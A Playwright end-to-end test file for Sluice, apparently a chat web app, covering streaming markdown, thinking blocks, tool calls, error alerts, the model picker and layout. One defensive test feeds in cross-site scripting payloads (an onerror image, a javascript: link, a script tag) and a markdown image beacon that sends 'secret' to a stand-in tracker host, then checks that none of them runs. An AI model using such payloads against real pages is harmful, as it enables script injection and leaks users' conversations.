import { readFileSync } from 'node:fs';
import {
  expect,
  expectModel,
  settled,
  shotPath,
  test,
  withoutScrollAnchoring,
  type Locator,
  type Page,
  type SluiceApp,
} from './support';

/** Uncaught errors on the page or in its workers: every test here ends without one. */
const pageErrors = new WeakMap<Page, string[]>();

test.beforeEach(async ({ page, app }) => {
  const errors: string[] = [];
  pageErrors.set(page, errors);
  page.on('pageerror', (error) => errors.push(error.message));
  await app.open();
});

test.afterEach(async ({ page }) => {
  expect(pageErrors.get(page)).toEqual([]);
});

/** A streaming reply's markdown shows as markdown while it streams, not only once it has ended. */
async function markdownWhileStreaming(page: Page, app: SluiceApp) {
  await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
  await expect(page.locator('article[data-status="streaming"]').locator('h1, h2, h3, table, pre').first()).toBeVisible();
  await app.done();
  await expect(app.lastReply().getByRole('table').first()).toBeVisible();
}

test('a streaming reply is parsed off the page, in its markdown worker, and shows as markdown while it streams', async ({
  page,
  app,
}) => {
  await markdownWhileStreaming(page, app);
  const names = await Promise.all(page.workers().map((worker) => worker.evaluate(() => self.name)));
  expect(names).toContain('sluice-markdown');
});

test('without its markdown worker, the page parses a streaming reply itself', async ({ page, app }) => {
  const messages: string[] = [];
  page.on('console', (message) => messages.push(message.text()));
  // The markdown worker's script fails to load, as a bundling mistake once made it do.
  await page.addInitScript(() => {
    const Real = window.Worker;
    window.Worker = class extends Real {
      constructor(url: string | URL, options?: WorkerOptions) {
        super(
          options?.name === 'sluice-markdown'
            ? URL.createObjectURL(new Blob(['throw new Error("no markdown here")'], { type: 'text/javascript' }))
            : url,
          options,
        );
      }
    };
  });
  await page.reload();
  await app.hydrated();
  await markdownWhileStreaming(page, app);
  expect(messages.some((m) => m.includes('markdown parses on the main thread'))).toBe(true);
});

test('a reply streams in progressively, then shows its status and figures', async ({ page, app }) => {
  // Ten seconds of reply: long enough to see it grow and Stop offered, on a busy machine too.
  await app.ask('sim-openai::sim-markdown', 'tokens=1000 tps=100 delay=0');
  const reply = app.lastReply();
  await app.streamed(reply);
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  const early = (await reply.innerText()).length;
  await expect.poll(async () => (await reply.innerText()).length).toBeGreaterThan(early);
  // Its markdown shows as markdown while it streams, not only once it has ended.
  await expect(page.locator('article[data-status="streaming"]').locator('h1, h2, h3, table, pre').first()).toBeVisible();
  await app.shot('chat-streaming');
  await app.done();
  await expect(reply).toHaveAttribute('data-status', 'complete');
  const figures = reply.getByRole('definition');
  await expect(figures).toHaveCount(7); // TTFT, speed, total, in, out, cost, finish
  await expect(reply.getByLabel('Reply figures')).toContainText('TTFT');
  // Markdown: a table and a code block, rendered.
  await expect(reply.getByRole('table').first()).toBeVisible();
  await expect(reply.locator('pre code').first()).toBeVisible();
  // Highlighted (asynchronously, by Shiki): tokens carry their colours.
  await expect(reply.locator('pre code span[style*="--sdm-c"]').first()).toBeAttached();
  // … in a Web Worker, so tokenizing never blocks the page.
  expect(page.workers().length).toBeGreaterThan(0);
  expect((await app.stats()).highlighter.answered).toBeGreaterThan(0);
  await app.shot('chat-complete');
});

test('thinking shows live, then collapses to “Thought for …” when the answer starts', async ({ app }) => {
  await app.ask('sim-anthropic::sim-thinking', 'think=150 tokens=60 tps=60 delay=0');
  const thinking = app.lastReply().locator('details').first();
  await expect(thinking.getByText('Thinking…')).toBeVisible();
  await expect(thinking).toHaveAttribute('open', '');
  await app.shot('chat-thinking');
  await app.done();
  await expect(thinking.locator('summary')).toHaveText(/^Thought for \d+\.\d s$/);
  await expect(thinking).not.toHaveAttribute('open', '');
  await thinking.locator('summary').click();
  await expect(thinking).toHaveAttribute('open', '');
});

test('thinking renders as markdown, as the answer does: while it streams, and opened once it is over', async ({ app }) => {
  await app.ask('sim-anthropic::sim-thinking', 'think=150 tokens=60 tps=60 delay=0');
  const thinking = app.lastReply().locator('details').first();
  await expect(thinking.getByText('Thinking…')).toBeVisible();
  // The simulator's thinking opens with a bold line: shown bold, not as asterisks.
  await expect(thinking.locator('strong').first()).toHaveText(/^Working out the \w+$/);
  await expect(thinking).not.toContainText('**');
  await app.done();
  await thinking.locator('summary').click();
  await expect(thinking.locator('strong').first()).toHaveText(/^Working out the \w+$/);
  await expect(thinking.locator('p').nth(1)).toContainText(/^The user wants/);
  await app.shot('chat-thinking-markdown');
});

test('tool calls render as cards; answering them continues the turn', async ({ page, app }) => {
  await app.ask('sim-openai::sim-tools-parallel', 'tps=200 delay=0');
  await app.done();
  const cards = page.getByRole('region', { name: /^Tool call get_weather$/ });
  await expect(cards).toHaveCount(2);
  await expect(cards.first()).toContainText('"city": "Reykjavík"');
  await app.shot('chat-tool-calls');
  await page.getByRole('textbox', { name: 'Result of get_weather' }).first().fill('{"temp": 4}');
  await page.getByRole('textbox', { name: 'Result of get_weather' }).last().fill('{"temp": 18}');
  await page.getByRole('button', { name: 'Send tool results' }).click();
  await app.done();
  await expect(app.lastReply()).toContainText('The get_weather tool returned');
  await expect(app.lastReply()).toContainText('{"temp": 18}');
});

test('Stop stops the stream and keeps the partial reply', async ({ page, app }) => {
  await app.ask('sim-gemini::sim-markdown', 'tokens=3000 tps=60 delay=0');
  await app.streamed();
  await page.getByRole('button', { name: 'Stop' }).click();
  await app.done();
  await expect(app.lastReply()).toHaveAttribute('data-status', 'stopped');
  await expect(app.lastReply()).toContainText('Stopped');
  expect((await app.lastReply().innerText()).length).toBeGreaterThan(20);
  await app.shot('chat-stopped');
});

for (const key of ['Enter', 'Space']) {
  test(`Stop pressed with ${key} leaves the focus in the composer, not on the page's body`, async ({ page, app }) => {
    await app.ask('sim-openai::sim-markdown', 'tokens=3000 tps=60 delay=0');
    await app.streamed();
    const stop = page.getByRole('button', { name: 'Stop', exact: true });
    await stop.focus();
    await page.keyboard.press(key);
    await app.done();
    await expect(page.getByRole('textbox', { name: 'Message' })).toBeFocused();
  });
}

test('a reply’s actions: Copy and Regenerate in sight on a line under its figures, the rest in its menu, by keyboard too', async ({
  page,
  app,
}) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await app.ask('sim-anthropic::sim-markdown', 'tokens=200 tps=500 delay=0');
  await app.done();
  const reply = app.lastReply();
  // Measured at one moment (the page may still scroll as the reply settles), from the reply's top.
  const line = ['Copy message', 'Regenerate reply', 'More actions for this reply'];
  const [figuresEnd, ...tops] = await reply.evaluate((article, names) => {
    const top = (el: Element | null) => el!.getBoundingClientRect().top - article.getBoundingClientRect().top;
    const figures = article.querySelector('[aria-label="Reply figures"]')!;
    const buttons = names.map((name) => article.querySelector(`button[aria-label="${name}"]`));
    return [top(figures) + figures.getBoundingClientRect().height, ...buttons.map(top)];
  }, line);
  expect(new Set(tops).size).toBe(1);
  expect(tops[0]).toBeGreaterThanOrEqual(figuresEnd!);
  // Nothing else in sight: the other actions wait in the menu.
  for (const name of ['Show this reply in the event log', 'Replay this reply at its recorded pace', 'Diff with another reply'])
    await expect(reply.getByRole('button', { name }).or(reply.getByRole('link', { name }))).toHaveCount(0);

  // From the keyboard: the menu is the next stop after Regenerate, opens on its first item, and gives the focus back.
  const more = reply.getByRole('button', { name: 'More actions for this reply' });
  await reply.getByRole('button', { name: 'Regenerate reply' }).focus();
  await page.keyboard.press('Tab');
  await expect(more).toBeFocused();
  await page.keyboard.press('Enter');
  const items = app.replyMenu().getByRole('menuitem');
  await expect(items).toHaveText(['Event log', 'Replay', 'Copy replay URL', 'Diff with…']);
  const names = await items.evaluateAll((all) => all.map((item) => item.getAttribute('aria-label')));
  expect(names).toEqual([
    'Show this reply in the event log',
    'Replay this reply at its recorded pace',
    'Copy replay URL of this reply',
    'Diff with another reply',
  ]);
  await expect(items.first()).toBeFocused();
  await page.keyboard.press('ArrowDown');
  await expect(items.nth(1)).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(app.replyMenu()).toBeHidden();
  await expect(more).toBeFocused();
  await app.shot('chat-reply-actions', { fullPage: false });
  // Picked, an item does what its button did: the event log opens on this reply.
  await app.replyAction('Show this reply in the event log');
  await expect(page.getByRole('region', { name: 'Event log' })).toBeVisible();
});

test('a full-page screenshot of a chat scrolled to its end draws its sidebar and header at the top, its composer at the end', async ({
  page,
  app,
}) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await app.ask('sim-openai::sim-markdown', 'tokens=600 delay=0');
  await app.done();
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
  // Where the page lays them out, in the document: New chat at its top; Send (grey: nothing typed) at its end.
  const at = async (name: string) => {
    const [box, y] = [
      (await page.getByRole(name === 'Send' ? 'button' : 'link', { name, exact: true }).boundingBox())!,
      await page.evaluate(() => window.scrollY),
    ];
    return { x: Math.round(box.x + 8), y: Math.round(box.y + (name === 'Send' ? y : 0) + box.height / 2) };
  };
  const [newChat, send] = [await at('New chat'), await at('Send')];
  const scrolled = await page.evaluate(() => window.scrollY);
  await app.shot('chat-full-page-scrolled');
  expect(await page.evaluate(() => window.scrollY)).toBe(scrolled); // put back
  const viewer = await page.context().newPage();
  const pixels = await viewer.evaluate(
    async ({ png, points }) => {
      const bitmap = await createImageBitmap(new Blob([Uint8Array.from(atob(png), (c) => c.charCodeAt(0))]));
      const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
      const context = canvas.getContext('2d')!;
      context.drawImage(bitmap, 0, 0);
      return points.map(({ x, y }) => [...context.getImageData(x, y, 1, 1).data]);
    },
    { png: readFileSync(shotPath('chat-full-page-scrolled')).toString('base64'), points: [newChat, send] },
  );
  await viewer.close();
  const [[r1, , b1], [r2, g2, b2]] = pixels as [number[], number[]];
  expect(b1! - r1!, `New chat's blue at its place (${pixels[0]})`).toBeGreaterThan(100);
  expect(Math.max(r2!, g2!, b2!), `Send's grey at its place (${pixels[1]})`).toBeLessThan(245);
});

test('an edited message resends with the composer’s keys: Enter, Ctrl+Enter; Shift+Enter a new line, Escape cancels', async ({
  page,
  app,
}) => {
  await app.ask('sim-openai::sim-echo', 'first tokens=3 delay=0');
  await app.done();
  const yours = page.getByRole('article', { name: 'Your message' });
  const edit = yours.getByRole('button', { name: 'Edit message and resend' });
  const box = page.getByRole('textbox', { name: 'Edit message' });

  // Enter, with a line typed after Shift+Enter.
  await edit.click();
  await expect(box).toBeFocused();
  await box.fill('second');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('line tokens=3 delay=0');
  await expect(box).toHaveValue('second\nline tokens=3 delay=0');
  await page.keyboard.press('Enter');
  await expect(box).toHaveCount(0);
  await app.done();
  await expect(yours).toContainText('second\nline');
  await expect(yours.getByText('Version 2 of 2')).toBeAttached();

  // Ctrl+Enter.
  await edit.click();
  await box.fill('third tokens=3 delay=0');
  await page.keyboard.press('Control+Enter');
  await expect(box).toHaveCount(0);
  await app.done();
  await expect(yours).toContainText('third');
  await expect(yours.getByText('Version 3 of 3')).toBeAttached();

  // Escape: nothing sent, the message as it was, the focus back on Edit.
  await edit.click();
  await box.fill('never sent');
  await page.keyboard.press('Escape');
  await expect(box).toHaveCount(0);
  await expect(yours).toContainText('third');
  await expect(yours.getByText('Version 3 of 3')).toBeAttached();
  await expect(edit).toBeFocused();
});

test.describe('each failure shows, with what to do', () => {
  test('HTTP 401 before streaming', async ({ app }) => {
    await app.ask('sim-openai::sim-fault-http-401', 'hi');
    const alert = app.lastReply().getByRole('alert');
    await expect(alert).toContainText('HTTP 401');
    // A simulator fault is deliberate: its reader is pointed at another model, not at a key to fix.
    await expect(alert).toContainText('pick another model for an answer');
    await expect(alert).not.toContainText('check apiKey or apiKeyEnv');
    await app.shot('chat-error-401');
  });

  test('an upstream HTTP 500: one status, in words, the same after a reload; one Retry, no Copy', async ({ page, app }) => {
    await app.ask('sim-openai::sim-fault-http-500', 'hi');
    for (const reloaded of [false, true]) {
      if (reloaded) {
        await page.reload();
        await app.hydrated();
      }
      const reply = app.lastReply();
      const alert = reply.getByRole('alert');
      await expect(alert.getByText('HTTP 500 from the upstream', { exact: true })).toBeVisible();
      // Not the 502 Sluice answered for it, nor its raw error type, nor a config to fix for a deliberate fault.
      await expect(alert).not.toContainText('502');
      await expect(alert).not.toContainText('upstream_error');
      await expect(alert).not.toContainText('sluice.config.json');
      // The alert's Retry is the one way to ask again; a reply with no text has nothing to copy.
      await expect(reply.getByRole('button', { name: 'Retry' })).toHaveCount(1);
      await expect(reply.getByRole('button', { name: 'Regenerate reply' })).toHaveCount(0);
      await expect(reply.getByRole('button', { name: 'Copy message' })).toHaveCount(0);
      await app.shot(`chat-error-500${reloaded ? '-reloaded' : ''}`);
    }
  });

  test('an HTML error page: its status, title and text, the raw page one click away; the same after a reload', async ({
    page,
    app,
  }) => {
    await app.ask('sim-openai::sim-fault-non-sse', 'hi');
    let live = '';
    for (const reloaded of [false, true]) {
      if (reloaded) {
        await page.reload();
        await app.hydrated();
      }
      const alert = app.lastReply().getByRole('alert');
      await expect(alert.getByText('HTTP 502 · Bad Gateway', { exact: true })).toBeVisible();
      await expect(alert).toContainText('nginx');
      // No markup in what shows: the raw page waits behind its disclosure.
      expect(await alert.innerText()).not.toMatch(/<\/?[a-z]/i);
      const raw = alert.getByRole('group').filter({ hasText: 'Raw response' });
      await expect(raw.locator('pre')).toBeHidden();
      await raw.getByText('Raw response').click();
      await expect(raw.locator('pre')).toContainText('<center><h1>502 Bad Gateway</h1></center>');
      // Reloaded, the raw page is the one shown live, to its last byte: the reply stored the
      // upstream's body, not only the excerpt its message quotes (trimmed, and 300 characters at most).
      const text = (await raw.locator('pre').textContent())!;
      expect(text).toMatch(/<\/html>\r\n$/);
      if (reloaded) expect(text).toBe(live);
      live = text;
      await app.shot(`chat-error-html${reloaded ? '-reloaded' : ''}`);
    }
  });

  test('an error event mid-stream', async ({ app }) => {
    await app.ask('sim-anthropic::sim-fault-error', 'tps=500 delay=0');
    await expect(app.lastReply().getByRole('alert')).toContainText('The stream failed');
    await expect(app.lastReply().getByRole('alert')).toContainText('sim-fault-error');
  });

  test('a truncated stream, with Retry', async ({ page, app }) => {
    await app.ask('sim-responses::sim-fault-eof', 'tps=500 delay=0');
    const alert = app.lastReply().getByRole('alert');
    await expect(alert).toContainText('Truncated');
    await expect(alert).toContainText('without its final event');
    await alert.getByRole('button', { name: 'Retry' }).click();
    await app.done();
    await expect(page.getByRole('article', { name: 'Assistant reply' })).toHaveCount(1);
  });
});

test('a hostile reply executes nothing and loads nothing', async ({ page, app }) => {
  const hostile =
    'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) ' +
    '<script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(request.url()));
  await app.ask('sim-openai::sim-echo', hostile);
  await app.done();
  const reply = app.lastReply();
  await expect(reply).toContainText('click me');
  expect(await reply.locator('img, script').count()).toBe(0);
  // An image is a link to open, never fetched: its URL could carry the conversation away.
  await expect(reply.getByRole('link', { name: 'Image: the chat so far' })).toHaveAttribute(
    'href',
    'https://tracker.invalid/p.png?q=secret',
  );
  expect(fetched.filter((url) => url.includes('tracker.invalid'))).toEqual([]);
  for (const href of await reply.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? '')))
    expect(href).not.toMatch(/^javascript:/i);
  await reply.getByText('click me').click();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
});

test('one store update per frame at most, and finished messages do not re-render during a later stream', async ({
  page,
  app,
}) => {
  await app.ask('sim-openai::sim-markdown', 'tokens=200 tps=2000 delay=0');
  await app.done();
  // The first reply's last trees and highlighting land after its end (on a loaded CI machine,
  // after the next message was sent): it is finished once it stops rendering.
  await settled(async () => (await app.stats()).renderCounts);
  // 2000 events in about a second.
  const before = await app.stats();
  await app.send('tokens=2000 tps=2000 delay=0');
  await expect(page.getByRole('article', { name: 'Assistant reply' })).toHaveCount(2);
  await app.streamed();
  const streaming = await app.stats();
  await app.done();
  const after = await app.stats();
  const frames = after.frameStats.frames - before.frameStats.frames;
  const updates = after.frameStats.storeUpdates - before.frameStats.storeUpdates;
  expect(updates).toBeGreaterThan(5);
  expect(updates).toBeLessThanOrEqual(frames + 1); // +1: the final state, applied at the end
  const finished = Object.keys(before.renderCounts);
  expect(finished.length).toBe(2); // the first question and its reply
  for (const id of finished) expect(after.renderCounts[id]).toBe(streaming.renderCounts[id]);
});

// Chromium follows by scroll anchoring once the reply outgrows the window; a browser
// without anchoring (Safari) by script, which the second run makes this Chromium into.
for (const anchoring of [true, false]) {
  const how = anchoring ? 'scroll anchoring' : 'scripted, no anchoring';
  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${how})`, async ({
    page,
    app,
  }) => {
    if (!anchoring) await withoutScrollAnchoring(page);
    await app.open();
    const gapBelow = () => page.evaluate(() => document.documentElement.scrollHeight - (window.scrollY + window.innerHeight));
    const streaming = page.locator('article[data-status="streaming"]');
    await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
    await expect(streaming).toHaveCount(1);
    // Mid-stream, once the reply is taller than the window, the page keeps up with its
    // bottom (a block that grows between two text updates is caught up with by the next).
    await page.waitForFunction(() => document.documentElement.scrollHeight > 2 * window.innerHeight);
    await expect.poll(gapBelow, { timeout: 2000 }).toBeLessThan(50);
    await expect(streaming).toHaveCount(1);
    await app.done();
    await expect.poll(gapBelow, { timeout: 2000 }).toBeLessThan(50);

    await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
    await expect(streaming).toHaveCount(1);
    await page.mouse.wheel(0, -3000);
    await page.waitForFunction(() => document.documentElement.scrollHeight - (window.scrollY + window.innerHeight) > 1000);
    const readingAt = await page.evaluate(() => window.scrollY);
    await app.done();
    expect(await page.evaluate(() => window.scrollY)).toBe(readingAt);
  });
}

test('the model picker: a combobox grouped by provider, searched by typing, driven by keys, the last choice remembered', async ({
  page,
  app,
}) => {
  await app.open();
  const picker = page.getByRole('combobox', { name: 'Model' });
  const list = page.getByRole('listbox', { name: 'Models' });
  // Closed, it names the model chosen, its provider beside it as its description.
  await expect(picker).toHaveAttribute('aria-expanded', 'false');
  await expectModel(page, 'sim-openai::sim-markdown');
  await expect(picker).toHaveValue('sim-markdown');
  await expect(picker).toHaveAccessibleDescription('Simulator · OpenAI Chat');

  // Opened, every provider's models, a group each; no Replay group, however many replies other tests made.
  await picker.click();
  await expect(picker).toHaveAttribute('aria-expanded', 'true');
  expect(await list.getByRole('option').count()).toBeGreaterThanOrEqual(60);
  const groups = list.getByRole('group');
  await expect(groups).toHaveCount(4);
  await expect(groups.nth(3)).toHaveAccessibleName(/^Simulator/);
  await expect(list.getByRole('group', { name: /Replay/ })).toHaveCount(0);
  // It opens at the model chosen, the option active (the field keeps the focus).
  await expect(picker).toBeFocused();
  const activeId = async () => (await picker.getAttribute('aria-activedescendant')) ?? '';
  await expect(page.locator(`[id="${await activeId()}"]`)).toHaveAttribute('data-choice', 'sim-openai::sim-markdown');

  // Typing searches: every word counts, the provider's name too; the first match is active.
  await picker.fill('echo');
  await expect(list.getByRole('option')).toHaveCount(4);
  await app.shot('chat-model-picker-searched', { fullPage: false });
  await picker.fill('gemini echo');
  await expect(list.getByRole('option')).toHaveCount(1);
  await expect(page.locator(`[id="${await activeId()}"]`)).toHaveAttribute('data-choice', 'sim-gemini::sim-echo');
  await picker.fill('no such model');
  await expect(list.getByRole('option')).toHaveCount(0);
  await expect(page.getByRole('status').filter({ hasText: 'No model matches.' })).toBeVisible();
  // Escape closes it and gives the field its model back, unchanged.
  await picker.press('Escape');
  await expect(picker).toHaveAttribute('aria-expanded', 'false');
  await expect(picker).toHaveValue('sim-markdown');
  await expectModel(page, 'sim-openai::sim-markdown');

  // The keys: typed, arrowed down past the first match, Enter picks.
  await picker.fill('thinking');
  await picker.press('ArrowDown');
  await expect(page.locator(`[id="${await activeId()}"]`)).toHaveAttribute('data-choice', 'sim-anthropic::sim-thinking');
  await picker.press('Enter');
  await expect(picker).toHaveAttribute('aria-expanded', 'false');
  await expectModel(page, 'sim-anthropic::sim-thinking');
  await expect(picker).toHaveAccessibleDescription('Simulator · Anthropic Messages');

  // By mouse, through the helper the other specs use.
  await app.pick('sim-gemini::sim-thinking');
  await expect(picker).toHaveAccessibleDescription('Simulator · Gemini');
  await app.shot('chat-model-picker', { fullPage: false });
  // Remembered: a new page starts on it, not on the first model.
  await app.open();
  await expectModel(page, 'sim-gemini::sim-thinking');

  // On a phone, dark: the list opens within the screen, under the field.
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.setViewportSize({ width: 390, height: 844 });
  await app.open();
  await picker.click();
  const box = (await list.boundingBox())!;
  expect(box.x).toBeGreaterThanOrEqual(0);
  expect(box.x + box.width).toBeLessThanOrEqual(390);
  expect(box.y).toBeGreaterThan((await picker.boundingBox())!.y);
  await app.shot('chat-model-picker-390-dark', { fullPage: false });
});

/** WCAG's contrast ratio of an element's text on its background, its colors read by the browser (Tailwind's are oklch). */
function contrastOf(locator: Locator): Promise<number> {
  return locator.evaluate((element) => {
    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true })!;
    const luminance = (css: string) => {
      canvas.clearRect(0, 0, 1, 1);
      canvas.fillStyle = css;
      canvas.fillRect(0, 0, 1, 1);
      const [r, g, b] = [...canvas.getImageData(0, 0, 1, 1).data].map((v) => {
        const c = v / 255;
        return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
      });
      return 0.2126 * r! + 0.7152 * g! + 0.0722 * b!;
    };
    const style = getComputedStyle(element);
    const [a, b] = [luminance(style.color), luminance(style.backgroundColor)].sort((x, y) => y - x);
    return (a! + 0.05) / (b! + 0.05);
  });
}

for (const theme of ['light', 'dark']) {
  test(`a disabled Send stays readable (${theme})`, async ({ page, app }) => {
    await page.addInitScript((t) => localStorage.setItem('sluice-theme', t), theme);
    await app.open();
    await expect(app.sendButton()).toBeDisabled();
    expect(await contrastOf(app.sendButton())).toBeGreaterThanOrEqual(4.5);
  });
}

/** Two elements on one line: their vertical middles within 2 px. */
async function expectLevel(a: Locator, b: Locator): Promise<void> {
  const [one, other] = [(await a.boundingBox())!, (await b.boundingBox())!];
  expect(Math.abs(one.y + one.height / 2 - (other.y + other.height / 2))).toBeLessThanOrEqual(2);
}

test('on a wide screen the header keeps one row, the provider named whole, as a reply streams and ends', async ({
  page,
  app,
}) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await app.open();
  const header = page.locator('header').first();
  const title = page.getByRole('heading', { name: 'Sluice', level: 1 });
  const level = (name: string) => expectLevel(header.getByRole('button', { name, exact: true }), title);
  // The longest simulator's name, whole beside its model: not cut to "Simulator · Ope…".
  await app.pick('sim-responses::sim-tools-parallel');
  const provider = header.locator('[title="Simulator · OpenAI Responses"]');
  expect(await provider.evaluate((e) => e.scrollWidth <= e.clientWidth)).toBe(true);
  await level('Event log');
  await app.ask('sim-openai::sim-markdown', 'tokens=300 tps=300 delay=0');
  await expect(page.locator('article[data-status="streaming"]')).toHaveCount(1);
  const streaming = (await header.boundingBox())!.height;
  await level('Event log');
  await app.done();
  await expect(header.getByRole('button', { name: 'Share' })).toBeVisible();
  // Title, picker and buttons on one line: the picker gives the Share button its room.
  await level('Share');
  expect((await header.boundingBox())!.height).toBe(streaming);
  expect(await header.locator('[title="Simulator · OpenAI Chat"]').evaluate((e) => e.scrollWidth <= e.clientWidth)).toBe(true);
});

test('on a phone the header keeps one height, whatever the provider’s name, its ☰ level with the title', async ({
  page,
  app,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await app.open();
  const header = page.locator('header').first();
  const heights: number[] = [];
  for (const model of ['sim-anthropic::sim-markdown', 'sim-openai::sim-markdown', 'sim-responses::sim-tools-parallel']) {
    await app.pick(model);
    // The model shares its line with its provider, however long the provider's name.
    await expectLevel(page.getByRole('combobox', { name: 'Model' }), header.locator('[title^="Simulator"]'));
    heights.push((await header.boundingBox())!.height);
  }
  expect(new Set(heights).size).toBe(1);
  await expectLevel(
    page.getByRole('button', { name: 'Show conversations' }),
    page.getByRole('heading', { name: 'Sluice', level: 1 }),
  );
  await app.shot('chat-phone-header');
});

test('light and dark themes, and a phone-width layout', async ({ page, app }) => {
  const html = page.locator('html');
  const wasDark = (await html.getAttribute('class'))?.includes('dark') ?? false;
  await page.getByRole('button', { name: /^(Dark|Light) theme$/ }).click();
  await expect(html).toHaveClass(wasDark ? /^(?!.*\bdark\b)/ : /\bdark\b/);
  await page.reload();
  await app.hydrated();
  await expect(html).toHaveClass(wasDark ? /^(?!.*\bdark\b)/ : /\bdark\b/);
  await page.setViewportSize({ width: 390, height: 844 });
  await app.ask('sim-anthropic::sim-markdown', 'tokens=150 tps=2000 delay=0');
  await app.done();
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeInViewport();
  await app.shot('chat-phone-theme-toggled');
  // On a phone the conversation list folds away behind a button.
  const list = page.getByRole('navigation', { name: 'Conversations' });
  await expect(list).toBeHidden();
  await page.getByRole('button', { name: 'Show conversations' }).click();
  await expect(list.getByRole('link', { name: /^tokens=150/ }).first()).toBeVisible();
  await app.shot('chat-phone-conversations');
  await page.getByRole('button', { name: 'Hide conversations' }).click();
  await expect(list).toBeHidden();
});
